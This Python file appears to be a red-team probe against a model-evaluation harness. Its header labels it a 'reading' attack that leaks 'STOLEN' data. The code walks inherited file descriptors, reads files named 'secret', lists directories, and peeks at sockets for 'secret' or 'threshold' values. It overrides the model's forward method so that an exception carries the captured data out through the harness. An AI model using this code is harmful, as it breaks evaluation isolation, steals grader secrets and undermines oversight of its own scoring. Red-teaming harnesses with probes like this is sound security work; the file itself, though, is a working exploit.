"""
kind: reading
tries: Inherited descriptors are listed and what waits in them is read before the harness sees it.
plain: yes
leaks: STOLEN
"""

import os
import socket
import stat

found = []


def keep(what):
    found.append("STO" + f"LEN {str(what)[:200]}")
    print(found[-1])


class ModelBaseline(ModelBaseline):
    def forward(self, x):
        if found:
            raise RuntimeError(found[-1])
        return super().forward(x)


for number in range(3, 1024):
    try:
        kind = os.fstat(number).st_mode
        if stat.S_ISREG(kind) and "secret" in os.readlink(f"/proc/self/fd/{number}"):
            keep(os.pread(number, 200, 0))
        if stat.S_ISDIR(kind):
            keep(os.listdir(number))
        if stat.S_ISSOCK(kind):
            waiting = socket.socket(fileno=os.dup(number)).recv(4096, socket.MSG_PEEK | socket.MSG_DONTWAIT)
            if b"secret" in waiting or b"threshold" in waiting:
                keep(waiting)
    except OSError:
        pass
